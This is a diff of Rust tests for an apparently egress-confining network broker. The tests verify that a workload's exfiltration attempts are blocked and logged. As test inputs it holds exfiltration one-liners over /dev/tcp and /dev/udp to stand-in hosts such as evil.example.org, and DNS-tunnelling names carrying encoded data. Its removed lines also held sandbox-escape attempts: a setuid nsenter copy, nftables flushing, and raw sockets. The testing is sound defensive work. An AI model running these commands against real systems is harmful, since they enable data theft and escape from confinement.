@@ -1,4 +1,5 @@
 mod confined;
+mod installed;
 
 use super::*;
 use std::io::{BufRead as _, BufReader, Read as _, Write as _};
@@ -10,7 +11,7 @@ use std::sync::atomic::{AtomicUsize, Ordering};
 use std::sync::mpsc;
 use std::time::Duration;
 
-use rustix::thread::{CapabilitySet, CapabilitySets, set_capabilities, set_no_new_privs};
+use rustix::thread::{CapabilitySet, CapabilitySets, set_capabilities};
 
 use crate::broker_tests::TERMINATE;
 use crate::broker_tests::world::{API, CDN, EVIL, World};
@@ -87,13 +88,11 @@ impl Guest {
         self.enforcement.workload().run(attempt).unwrap()
     }
 
-    /// Runs a script in the workload's place as its user, from a thread that has given up what a guest's has; whether it succeeds.
-    fn script(&self, script: &str) -> bool {
+    /// Runs a script as the workload runs: as its user, in its network, under its filter. Whether it succeeds, and the calls that were
+    /// refused.
+    fn script(&self, script: &str) -> (bool, Vec<String>) {
         let script = script.to_owned();
-        self.workload(move || {
-            set_no_new_privs(true).unwrap();
-            as_user(&script)
-        })
+        self.confined(move || as_user(&script))
     }
 
     /// Everything that was dropped so far, with a record.
@@ -106,7 +105,15 @@ impl Guest {
 /// Runs a script as the workload's user; whether it succeeds.
 fn as_user(script: &str) -> bool {
     let mut shell = Command::new("sh");
-    shell.args(["-c", script]).uid(WORKLOAD_USER).gid(WORKLOAD_USER);
+    succeeds(shell.args(["-c", script]).uid(WORKLOAD_USER).gid(WORKLOAD_USER))
+}
+
+/// Runs a script as this process' user; whether it succeeds.
+fn as_root(script: &str) -> bool {
+    succeeds(Command::new("sh").args(["-c", script]))
+}
+
+fn succeeds(shell: &mut Command) -> bool {
     shell.stdout(Stdio::null()).stderr(Stdio::null()).status().unwrap().success()
 }
 
@@ -298,92 +305,49 @@ fn no_way_out_of_the_workloads_network_gets_a_byte_out_and_each_has_a_record() {
         // Records of the kernel say where to and by whom.
         guest.script("bash -c 'echo secret > /dev/udp/192.0.2.7/9'");
         let latest = || guest.enforcement.packets().status().latest.pop();
-        let of_user = |record: DropRecord| {
-            record.destination == "192.0.2.7:9/udp"
-                && record.process.is_some_and(|process| process.uid == WORKLOAD_USER)
-        };
+        let of_user =
+            |record: DropRecord| record.destination == "192.0.2.7:9/udp" && record.uid == Some(WORKLOAD_USER);
         assert!(eventually(|| latest().is_some_and(of_user)), "{:?}", latest());
     });
 }
 
+/// A connection to the proxy, one that the kernel redirects, also over IPv6, and a question.
+const REFUSED_BY_THE_BROKER: [(&str, &str, &str); 4] = [
+    (
+        "proxy",
+        "evil.example.org:443/tcp",
+        "exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT evil.example.org:443 HTTP/1.1\\r\\n\\r\\n' >&3; head -c 1 <&3",
+    ),
+    ("transparent", "1.2.3.4:443/tcp", "exec 3<>/dev/tcp/1.2.3.4/443; head -c 1 <&3"),
+    ("transparent", "[2606:4700::1]:443/tcp", "exec 3<>/dev/tcp/2606:4700::1/443; head -c 1 <&3"),
+    ("dns", "evil.example.org", QUESTION),
+];
+const QUESTION: &str = "exec 3<>/dev/udp/192.0.2.53/53; printf \"$ASKED\" >&3; head -c 1 <&3";
+
 #[test]
-fn a_workload_leaves_neither_its_network_nor_changes_it() {
-    const NAME: &str = "enforcement::tests::a_workload_leaves_neither_its_network_nor_changes_it";
+fn records_of_the_broker_name_the_user_whose_process_asked() {
+    const NAME: &str = "enforcement::tests::records_of_the_broker_name_the_user_whose_process_asked";
     if acts_as_broker() {
         return;
     }
     in_a_network_with_users(NAME, || {
-        const OUT: &str = "bash -c 'echo secret > /dev/tcp/1.2.3.4/443'";
-        let far = FarSide::new();
-        let pid = std::process::id();
-        // A program of root's that everybody may run as root, which enters the guest's network.
-        let helper = std::env::current_exe().unwrap().with_extension("helper");
-        sh(&format!("cp \"$(command -v nsenter)\" {0}; chmod 4755 {0}", helper.display()));
-        let escape = format!("timeout 1 {} -t {pid} -n {OUT}", helper.display());
-        let (direct, by_helper) = (format!("timeout 1 {OUT}"), escape.clone());
-        assert!(far.hears(|| _ = as_user(&direct)), "unprotected");
-        let elsewhere = NetworkThread::start("unprotected").unwrap();
-        assert!(
-            far.hears(|| _ = elsewhere.run(move || as_user(&by_helper)).unwrap()),
-            "unprotected, by a helper"
-        );
-        let mut guest = Guest::new(far, NAME);
+        let mut guest = Guest::new(FarSide::new(), NAME);
         guest.lock();
-        let arrived = guest.far.packets();
-        // The programs are there, for what is harmless.
-        for script in [
-            "nft --version",
-            "ip link",
-            "nsenter --version",
-            "/usr/bin/python3 -c 'import socket; socket.socket()'",
-        ] {
-            assert!(guest.script(script), "{script}");
+        let asked = dns::query(5, "evil.example.org", dns::Family::V4);
+        let asked: String = asked.iter().map(|byte| format!("\\x{byte:02x}")).collect();
+        for (way, destination, attempt) in REFUSED_BY_THE_BROKER {
+            for user in [WORKLOAD_USER, WORKLOAD_USER + 1] {
+                let (attempt, asked) = (attempt.to_owned(), asked.clone());
+                let said = guest.workload(move || {
+                    let mut shell = Command::new("timeout");
+                    shell.args(["10", "bash", "-c", &attempt]).env("ASKED", asked);
+                    shell.uid(user).gid(user).output().unwrap()
+                });
+                let record = guest.broker().latest.pop().unwrap_or_else(|| panic!("{way}: {said:?}"));
+                assert_eq!((record.way.name(), record.destination.as_str()), (way, destination), "{said:?}");
+                assert_eq!(record.uid, Some(user), "{way} to {destination}: {said:?}");
+            }
         }
-        for (what, script) in [
-            ("flushes rules", "nft flush ruleset".to_owned()),
-            ("reads rules", "nft list ruleset".to_owned()),
-            ("adds rules", "nft add table inet x".to_owned()),
-            ("takes the device down", "ip link set lo down".to_owned()),
-            ("adds a route", "ip route add 1.2.3.4/32 dev lo".to_owned()),
-            ("enters the guest's network", format!("nsenter -t {pid} -n {OUT}")),
-            ("enters it by its file", format!("nsenter --net=/proc/{pid}/ns/net {OUT}")),
-            (
-                "opens a raw socket",
-                "/usr/bin/python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)'"
-                    .to_owned(),
-            ),
-            (
-                "opens a packet socket",
-                "/usr/bin/python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)'"
-                    .to_owned(),
-            ),
-            ("enters it by a helper of root's", escape),
-        ] {
-            assert!(!guest.script(&script), "a workload {what}");
-        }
-        // Another network of its own, where the system gives it one, leads nowhere, as its children's leads to the broker.
-        for script in
-            [format!("unshare -rn {OUT}"), format!("setsid sh -c \"sh -c '{}'\"", OUT.replace('\'', "\\\""))]
-        {
-            guest.script(&script);
-        }
-        std::fs::remove_file(helper).unwrap();
-        assert_eq!(guest.far.packets(), arrived);
-        let rules = guest.enforcement.rules.clone();
-        assert!(guest.workload(move || nft::is_in_force(&rules).unwrap()));
-        // Abstract sockets belong to networks, too: the guest's are not there.
-        let address = rustix::net::SocketAddrUnix::new_abstract_name(b"confide-test").unwrap();
-        let listening =
-            rustix::net::socket(rustix::net::AddressFamily::UNIX, rustix::net::SocketType::STREAM, None)
-                .unwrap();
-        rustix::net::bind(&listening, &address).unwrap();
-        rustix::net::listen(&listening, 1).unwrap();
-        let reach = move || {
-            let (family, kind) = (rustix::net::AddressFamily::UNIX, rustix::net::SocketType::STREAM);
-            rustix::net::connect(rustix::net::socket(family, kind, None).unwrap(), &address).is_ok()
-        };
-        assert!(reach.clone()(), "from the guest's own network it is reached");
-        assert!(!guest.workload(reach));
     });
 }
 
@@ -590,11 +554,18 @@ fn a_name_is_reached_by_the_broker_alone_and_by_its_certificate() {
         let runtime = tokio::runtime::Runtime::new().unwrap();
         let world = runtime.block_on(World::beyond(&far, TERMINATE));
         let [cdn, evil] = [CDN, EVIL].map(|address| SocketAddr::new(address.parse().unwrap(), 443));
-        // Unprotected, each is reached.
+        let long = format!("{}.example.org", "c2VjcmV0".repeat(7));
+        let tunnels = ["c2VjcmV0.evil.example.org", "sub.api.example.com", &long];
+        // Unprotected, each is reached, and a DNS server learns every name.
         open(&cdn.to_string());
         open(&evil.to_string());
-        assert!(far.hears(|| send("8.8.8.8:53")));
         assert!(eventually(|| (world.cdn.connections(), world.evil.connections()) == (1, 1)));
+        for name in tunnels {
+            runtime.block_on(world.question_arrives(&dns::query(5, name, dns::Family::V4)));
+        }
+        let learnt: Vec<_> = world.zone.questions().into_iter().map(|(name, _)| name).collect();
+        assert_eq!(learnt, tunnels);
+        world.forget();
         let mut guest = Guest::of_a_world(&world, far, NAME);
         guest.lock();
         // By a name that the workload resolves, and by the proxy: the broker speaks TLS.
@@ -612,8 +583,7 @@ fn a_name_is_reached_by_the_broker_alone_and_by_its_certificate() {
         assert!(by_proxy.ends_with("you reached api.example.com"), "{by_proxy}");
         assert_eq!(world.cdn.requests().len(), 2);
         // Names that carry data reach nobody; nor do addresses of allowed names, nor another owner's.
-        let long = format!("{}.example.org", "c2VjcmV0".repeat(7));
-        for name in ["c2VjcmV0.evil.example.org", "sub.api.example.com", &long] {
+        for name in tunnels {
             let (before, asked) = (guest.drops(), name.to_owned());
             assert_eq!(guest.workload(move || resolve(&asked)), None, "{name}");
             assert!(guest.drops() > before, "{name}");
